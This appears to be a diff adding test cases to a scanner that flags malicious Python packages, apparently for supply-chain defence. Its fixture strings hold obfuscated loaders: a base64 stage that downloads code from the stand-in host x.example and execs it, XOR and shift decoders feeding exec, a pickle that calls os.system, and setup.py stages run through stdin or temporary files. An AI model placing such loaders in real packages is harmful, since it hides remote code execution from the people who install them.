@@ -567,3 +567,145 @@ def test_threats_are_danger_in_plugin_mode_whatever_is_declared() -> None:
     threat = next(f for f in findings if f.rule_id == "CPL-THR-001")
     assert threat.severity is Severity.DANGER
     assert not threat.covered
+
+
+# -- branch recall: generalisations, each with its benign near miss --------------------------
+
+_STAGE = base64.b64encode(
+    b'import urllib.request\nexec(urllib.request.urlopen("https://x.example/s").read())\n'
+).decode()
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a name spelled by an operation the evaluator does not follow: still from literals
+        "import builtins\ngetattr(builtins, ''.join(sorted('cexe')).swapcase().lower())(c)\n",
+        "b = __builtins__\nb.__dict__[str(oct)[3].zfill(2)](c)\n",
+    ],
+)
+def test_a_builtin_named_by_any_computation_on_literals_is_a_threat(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # compatibility shims look builtins up by a parameter or a loop variable
+        "import builtins\ndef get(name):\n    return getattr(builtins, name)\n",
+        "import builtins\nfor n in ('unicode', 'long'):\n    getattr(builtins, n, None)\n",
+        "import builtins\nf = getattr(builtins, input())\n",
+    ],
+)
+def test_a_builtin_named_at_run_time_is_not_a_computed_name(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        # exec picked out of a list; eval looked up in globals() by a split name
+        (
+            f"import base64\nfns = [print, exec]\nfns[1](base64.b64decode({_STAGE!r}))\n",
+            "CPL-THR-001",
+        ),
+        (
+            f"import base64\nglobals()['ev' + 'al']"
+            f"(compile(base64.b64decode({_STAGE!r}), 'x', 'exec'))\n",
+            "CPL-THR-001",
+        ),
+        # XOR in place, and a Caesar shift, written as loops (tune: ds-bytearray-xor, ds-rot-loop)
+        (
+            "buf = bytearray(D)\nfor i in range(len(buf)):\n"
+            "    buf[i] ^= K[i % 3]\nexec(bytes(buf))\n",
+            "CPL-THR-001",
+        ),
+        ("o = ''\nfor c in E:\n    o += chr(ord(c) - 3)\nexec(o)\n", "CPL-THR-001"),
+        # the sink behind a helper or a lambda of this file (tune: ds-helper-exec, ds-lambda-sink)
+        (
+            f"import base64\ndef load(blob):\n    exec(compile(blob, 'c', 'exec'))\n\n"
+            f"load(base64.b64decode({_STAGE!r}))\n",
+            "CPL-THR-001",
+        ),
+        (
+            "import os, base64\nrun = lambda c: os.system(c)\nrun(base64.b64decode(C).decode())\n",
+            "CPL-THR-001",
+        ),
+        # os.exec* runs its argv; a pickle decoded from a literal runs what it names
+        (
+            "import os, base64\nos.execvp('sh', ['sh', '-c', base64.b64decode(C).decode()])\n",
+            "CPL-THR-001",
+        ),
+        (
+            "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQo='))\n",
+            "CPL-THR-001",
+        ),
+    ],
+)
+def test_decoders_reach_sinks_through_aliases_loops_and_helpers(source: str, rule: str) -> None:
+    assert rule in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a checksum XORed in a loop, letters shifted for column names: no sink runs them
+        "crc = 0\nfor b in data:\n    crc ^= b\nprint(crc)\n",
+        "cols = [chr(ord('A') + i) for i in range(5)]\nprint(cols)\n",
+        # a helper running a fixed command; a list of callbacks called with plain data
+        "import subprocess\ndef run(cmd):\n    subprocess.call(cmd)\n\nrun(['ls', '-l'])\n",
+        "handlers = [print, len]\nhandlers[0](data)\n",
+        # a pickle of run-time data (a cache, a queue message)
+        "import pickle, base64\ndef load(s):\n    return pickle.loads(base64.b64decode(s))\n",
+        # os.execvp re-running the interpreter on a script of the package
+        "import os, sys\nos.execvp(sys.executable, [sys.executable, 'manage.py'])\n",
+    ],
+)
+def test_loops_helpers_and_unpicklers_of_plain_data_are_not_threats(source: str) -> None:
+    assert not danger(source) & {"CPL-THR-001", "CPL-THR-002", "CPL-THR-003"}
+
+
+_SRC = 'import urllib.request\\nexec(urllib.request.urlopen(\\"https://x.example/s\\").read())\\n'
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # python reading its program from stdin (tune: ls-stdin-python, ls-communicate)
+        f'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input="{_SRC}")\n',
+        f'import subprocess\np = subprocess.Popen(["python3"], stdin=subprocess.PIPE)\n'
+        f'p.communicate("{_SRC}")\n',
+        # a literal written, then read back into exec (tune: ls-exec-read-back)
+        f'P = "/tmp/u.py"\nwith open(P, "w") as f:\n    f.write("{_SRC}")\nexec(open(P).read())\n',
+        # a temporary file's name run by the interpreter (tune: ls-tempfile-sysexec)
+        f"import subprocess, sys, tempfile\n"
+        f'with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:\n'
+        f'    t.write("{_SRC}")\nsubprocess.Popen([sys.executable, t.name])\n',
+    ],
+)
+def test_a_literal_stage_run_through_stdin_or_a_file_read_back_is_a_threat(source: str) -> None:
+    assert "CPL-THR-016" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # setup.py reading its version file into exec; a harmless snippet on stdin
+        'exec(open("mypkg/version.py").read())\n',
+        'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input="print(1)")\n',
+        "import subprocess, sys, tempfile\n"
+        'with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:\n'
+        '    t.write("print(42)")\nsubprocess.run([sys.executable, t.name])\n',
+    ],
+)
+def test_a_harmless_stage_or_a_version_file_is_not_a_threat(source: str) -> None:
+    assert not danger(source, "setup.py") & {"CPL-THR-016", "CPL-THR-001", "CPL-THR-002"}
+
+
+def test_a_download_run_by_the_interpreter_named_before_it_is_a_threat() -> None:
+    source = (
+        "import os, sys, urllib.request\nurllib.request.urlretrieve(U, '/tmp/x.py')\n"
+        "p = '/tmp/x.py'\nurllib.request.urlretrieve(U, p)\nos.system(sys.executable + ' ' + p)\n"
+    )
+    assert "CPL-THR-002" in danger(source)
+    assert "CPL-THR-002" not in danger("import os, sys\nos.system(sys.executable + ' build.py')\n")
